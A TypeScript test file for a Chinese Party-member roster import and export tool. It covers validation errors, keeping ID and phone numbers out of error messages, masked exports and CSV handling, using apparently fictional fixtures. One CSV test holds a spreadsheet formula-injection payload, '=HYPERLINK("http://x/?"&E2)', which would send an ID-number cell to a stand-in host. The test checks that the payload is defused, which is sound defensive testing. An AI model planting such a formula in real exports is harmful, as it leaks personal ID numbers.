import { MemoryStore } from '@dangjian/adapters/memory';
import {
  SimulatedClock,
  Workspace,
  columnLetter,
  containsPiiShape,
  defuseFormula,
  importRoster,
  parseCsv,
  parseRoster,
  parseRosterInChunks,
  restoreDefused,
  rosterColumns,
  rosterRows,
  seedTenant,
  snapshotToRecords,
  toCsv,
} from '@dangjian/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { idNumber, smallStreet } from './fixtures.js';

const header = [
  '编号',
  '姓名',
  '性别',
  '出生日期',
  '公民身份号码',
  '党员类别',
  '组织关系所在党组织',
  '日常管理党组织',
  '就业状况',
];
const validRows = (): string[][] => [
  [...header],
  ['m1', '王秀英', '女', '1948/3/2', idNumber('32040219480302002'), '正式党员', 'b1', '', '离退休'],
  [
    'm2',
    '李建国',
    '男',
    '1975年10月1日',
    idNumber('32040219751001003'),
    '正式党员',
    '青龙街道党工委/青龙苑北区社区党委/第一党支部',
    '1号楼党小组',
    '在职',
  ],
  ['m3', '赵敏', '女', '1990-05-04', '', '预备党员', 'b2', '', ''],
];

async function openStreet(): Promise<{ store: MemoryStore; workspace: Workspace }> {
  const store = new MemoryStore();
  await seedTenant(store, '320402', snapshotToRecords(smallStreet()), { actorId: 'seed', at: '2026-11-23T00:00:00Z' });
  const workspace = await Workspace.open({
    store,
    tenant: '320402',
    clock: new SimulatedClock('2026-11-23T02:00:00Z'),
    actor: { id: 'importer' },
  });
  return { store, workspace };
}

describe('roster import (党员花名册)', () => {
  it('reads the template in any column order, with dates and org paths as people write them', async () => {
    const { store, workspace } = await openStreet();
    const rows = validRows().map((row) => [row[1]!, row[0]!, ...row.slice(2)]);
    const result = await importRoster(workspace, rows);
    expect(result.ok).toBe(true);
    expect(workspace.snapshot.members.size).toBe(3);
    expect(workspace.snapshot.members.get('m2')).toMatchObject({
      birthDate: '1975-10-01',
      relationOrgId: 'b1',
      managingOrgId: 'g1',
      employment: 'employed',
    });
    expect(workspace.snapshot.members.get('m1')).toMatchObject({ managingOrgId: 'b1', employment: 'retired' });
    const audit = await store.readAudit('320402');
    expect(audit.at(-1)).toMatchObject({ command: 'member.import', revision: 2 });
  });

  it('reports every bad cell with row, column, rule and both languages, and writes nothing', async () => {
    const { store, workspace } = await openStreet();
    const rows = validRows();
    rows[1]![2] = '未知';
    rows[2]![4] = '320402197510010031';
    rows[3]![6] = '第九党支部';
    rows.push(['m1', '重复', '男', '1980-01-01', '', '正式党员', 'b1', '', '']);
    const result = await importRoster(workspace, rows);
    expect(result.ok).toBe(false);
    if (result.ok || !('issues' in result.error)) return;
    const where = result.error.issues.map((issue) => [issue.row, issue.column, issue.code]);
    expect(where).toEqual([
      [2, 'C', 'roster.unknownValue'],
      [3, 'E', 'roster.invalid'],
      [4, 'G', 'roster.unknownOrg'],
      [5, 'A', 'roster.duplicateId'],
    ]);
    expect(result.error.issues[0]!.text['zh-CN']).toBe('第 2 行“性别”列（C）：不认识“未知”，可填：男 / 女');
    expect(result.error.issues[1]!.text.en).toContain('Row 3, "公民身份号码" (E): Not a valid citizen ID number');
    expect(JSON.stringify(result.error.issues)).not.toContain('320402197510010031');
    expect(workspace.revision).toBe(1);
    expect((await store.load('320402')).records.members ?? []).toHaveLength(0);
  });

  it('takes a missing birth date from the ID number and reports one the ID number contradicts', async () => {
    const { workspace } = await openStreet();
    const rows = validRows();
    rows[1]![3] = '';
    rows[2]![3] = '1975-10-02';
    const refused = parseRoster(rows, smallStreet());
    expect(refused.ok).toBe(false);
    if (refused.ok) return;
    expect(refused.error.map((issue) => [issue.row, issue.column, issue.code])).toEqual([[3, 'D', 'roster.invalid']]);
    expect(refused.error[0]!.text['zh-CN']).toContain('出生日期与公民身份号码中的出生日期不一致');
    rows[2]![3] = '1975-10-01';
    expect((await importRoster(workspace, rows)).ok).toBe(true);
    expect(workspace.snapshot.members.get('m1')?.birthDate).toBe('1948-03-02');
  });

  it('refuses unknown and missing columns before reading any row', () => {
    const result = parseRoster(
      [
        ['编号', '姓名', '性 别', '出生日期'],
        ['m1', '张三', '男', '1980-01-01'],
      ],
      smallStreet(),
    );
    expect(result.ok || result.error.map((issue) => issue.code)).toEqual([
      'roster.unknownColumn',
      'roster.missingColumn',
      'roster.missingColumn',
      'roster.missingColumn',
    ]);
  });

  it('calls back with progress for large files', () => {
    const rows = [
      header,
      ...Array.from({ length: 2500 }, (_, i) => [`n${i}`, '党员', '男', '1960-01-01', '', '正式党员', 'b1', '', '']),
    ];
    const progress: number[] = [];
    const result = parseRoster(rows, smallStreet(), { onProgress: (done) => progress.push(done) });
    expect(result.ok && result.value).toHaveLength(2500);
    expect(progress).toEqual([1000, 2000, 2500]);
  });

  it('hands control back between chunks when given a pause, with the same result', async () => {
    const rows = [
      header,
      ...Array.from({ length: 2500 }, (_, i) => [`n${i}`, '党员', '男', '1960-01-01', '', '正式党员', 'b1', '', '']),
    ];
    const events: string[] = [];
    const result = await parseRosterInChunks(rows, smallStreet(), {
      onProgress: (done) => events.push(`progress ${done}`),
      pause: async () => {
        events.push('pause');
      },
    });
    expect(events).toEqual(['progress 1000', 'pause', 'progress 2000', 'pause', 'progress 2500', 'pause']);
    expect(result).toEqual(parseRoster(rows, smallStreet()));
  });

  it('writes nothing for any file with any one bad cell', async () => {
    /** For each column, values that are wrong in it (an id taken by another row, an impossible date …). */
    const wrong: readonly (readonly [number, string])[] = [
      [0, ''],
      [0, '  '],
      [0, 'taken'],
      [1, ''],
      [1, '党'.repeat(51)],
      [2, '未知'],
      [2, ''],
      [3, '1980-13-01'],
      [3, 'yesterday'],
      [4, idNumber('32040219480302002').replace(/.$/, (c) => (c === '0' ? '1' : '0'))],
      [4, '12345'],
      [5, '党员'],
      [6, ''],
      [6, '不存在的支部'],
      [6, '第一党支部/1号楼党小组/更下一级'],
    ];
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 1, max: 3 }), fc.constantFrom(...wrong), async (row, [column, value]) => {
        const rows = validRows();
        rows[row]![column] = value === 'taken' ? `m${(row % 3) + 1}` : value;
        const { store, workspace } = await openStreet();
        const result = await importRoster(workspace, rows);
        expect(result.ok).toBe(false);
        expect((await store.load('320402')).revision).toBe(1);
      }),
      { numRuns: 60 },
    );
  });
});

/** Everything an import hands back when it refuses a file: issues (texts in both languages, headers) or an error with params and details. */
async function refusal(rows: string[][]): Promise<string> {
  const { workspace } = await openStreet();
  const result = await importRoster(workspace, rows);
  if (result.ok) return '';
  return JSON.stringify('issues' in result.error ? result.error.issues : result.error.error.toJSON());
}

const digits = (length: number): fc.Arbitrary<string> =>
  fc.string({ unit: fc.constantFrom(...'0123456789'), minLength: length, maxLength: length });
/** ID numbers (valid ones too, so some rows pass and meet duplicates), old 15-digit ones and mobiles, glued to text or not. */
const personalNumber = fc
  .tuple(
    fc.constantFrom('', ' ', '第', 'b1/', '电话'),
    fc.oneof(
      fc.tuple(digits(17), fc.constantFrom(...'0123456789Xx')).map(([body, last]) => body + last),
      digits(17).map(idNumber),
      digits(15),
      fc.tuple(fc.constantFrom(...'3456789'), digits(9)).map(([second, rest]) => `1${second}${rest}`),
    ),
    fc.constantFrom('', ' ', '号', '/第一党支部'),
  )
  .map((parts) => parts.join(''));

describe('roster import never echoes personal numbers', () => {
  it('says which cell is wrong, not what it holds, when columns are shifted', async () => {
    const rows = validRows();
    const id = idNumber('32040219800101001');
    rows[1]![2] = id; // an ID number in 性别
    rows[2]![5] = '13812345678'; // a phone in 党员类别
    rows[3]![6] = '320402198001010'; // an old-form ID number in 组织关系所在党组织
    const text = await refusal(rows);
    expect(text).toContain('roster.unknownValue');
    expect(text).toContain('roster.unknownOrg');
    expect(containsPiiShape(text)).toBe(false);
  });

  it('does not echo a data row read as the header when the header row is missing', async () => {
    const text = await refusal(validRows().slice(1));
    expect(text).toContain('roster.unknownColumn');
    expect(containsPiiShape(text)).toBe(false);
  });

  it('does not echo an ID number or phone put as a duplicate 编号', async () => {
    const rows = validRows();
    rows[1]![0] = '13812345678';
    rows[2]![0] = '13812345678';
    const text = await refusal(rows);
    expect(text).toContain('roster.duplicateId');
    expect(containsPiiShape(text)).toBe(false);
  });

  it('holds for personal numbers in any cells of any roster, header row included', async () => {
    const place = fc.record({
      row: fc.integer({ min: 0, max: 4 }),
      column: fc.integer({ min: 0, max: header.length - 1 }),
      value: personalNumber,
    });
    await fc.assert(
      fc.asyncProperty(fc.array(place, { minLength: 1, maxLength: 5 }), fc.boolean(), async (places, repeat) => {
        const rows = validRows();
        // A repeated row meets the duplicate checks (编号, 公民身份号码) with whatever it holds.
        rows.push([...rows[1]!]);
        for (const { row, column, value } of places) rows[row]![column] = value;
        if (repeat) rows.push([...rows[4]!]);
        expect(containsPiiShape(await refusal(rows))).toBe(false);
      }),
      { numRuns: 150 },
    );
  });
});

describe('CSV', () => {
  it('undoes formula defusing exactly where it was added, and never leaves a formula start', () => {
    const cell = fc.string({
      unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', '党', ' '),
      maxLength: 6,
    });
    fc.assert(
      fc.property(cell, (text) => {
        expect(restoreDefused(defuseFormula(text))).toBe(text);
        expect(defuseFormula(text)).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
    expect(defuseFormula("'=1+1")).toBe("''=1+1");
  });

  it('round-trips any cells, commas, quotes and line breaks included', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', '党', ',', '"', '\n', ' ', '1'), maxLength: 6 });
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const kept = rows.filter((cells) => cells.some((each) => each.trim() !== ''));
        expect(parseCsv(toCsv(rows))).toEqual(kept);
      }),
    );
  });

  it('names columns as spreadsheets do', () => {
    expect([0, 25, 26, 27, 701, 702].map(columnLetter)).toEqual(['A', 'Z', 'AA', 'AB', 'ZZ', 'AAA']);
    expect(rosterColumns.filter((column) => column.required).map((column) => column.header['zh-CN'])).toEqual([
      '编号',
      '姓名',
      '性别',
      '出生日期',
      '党员类别',
      '组织关系所在党组织',
    ]);
  });

  it('defuses would-be formulas in CSV and reads them back as text', () => {
    const csv = toCsv([['姓名'], ['=HYPERLINK("http://x/?"&E2)'], ['-1']]);
    expect(csv).toContain(`'=HYPERLINK`);
    expect(parseCsv(csv).map((row) => row[0])).toEqual(['姓名', `'=HYPERLINK("http://x/?"&E2)`, "'-1"]);
    const parsed = parseRoster(
      [
        ['编号', '姓名', '性别', '出生日期', '党员类别', '组织关系所在党组织'],
        ...parseCsv(toCsv([['m1', '+王', '男', '1960-01-01', '正式党员', 'b1']])),
      ],
      smallStreet(),
    );
    expect(parsed.ok && parsed.value[0]!.name).toBe('+王');
  });
});

describe('roster export', () => {
  it('masks ID numbers and phones by default, and an unmasked export imports back to the same members', async () => {
    const { workspace } = await openStreet();
    const imported = await importRoster(workspace, validRows());
    expect(imported.ok).toBe(true);
    const members = workspace.snapshot.members.toArray();
    const masked = rosterRows(members, workspace.snapshot);
    const text = JSON.stringify(masked);
    for (const member of members) if (member.idNumber) expect(text).not.toContain(member.idNumber);
    expect(masked[0]).toEqual(rosterColumns.map((column) => column.header['zh-CN']));
    expect(masked.find((row) => row[0] === 'm2')![11]).toBe('青龙街道党工委/青龙苑北区社区党委/第一党支部');

    const full = rosterRows(members, workspace.snapshot, { unmask: true });
    const fresh = await openStreet();
    const again = await importRoster(fresh.workspace, parseCsv(toCsv(full)));
    expect(again.ok).toBe(true);
    const byId = (list: readonly { id: string }[]) => [...list].sort((a, b) => (a.id < b.id ? -1 : 1));
    expect(byId(fresh.workspace.snapshot.members.toArray())).toEqual(byId(members));
  });

  it('writes English headers and words on request', () => {
    const rows = rosterRows([], smallStreet(), { locale: 'en' });
    expect(rows[0]!.slice(0, 3)).toEqual(['ID', 'Name', 'Gender']);
  });
});
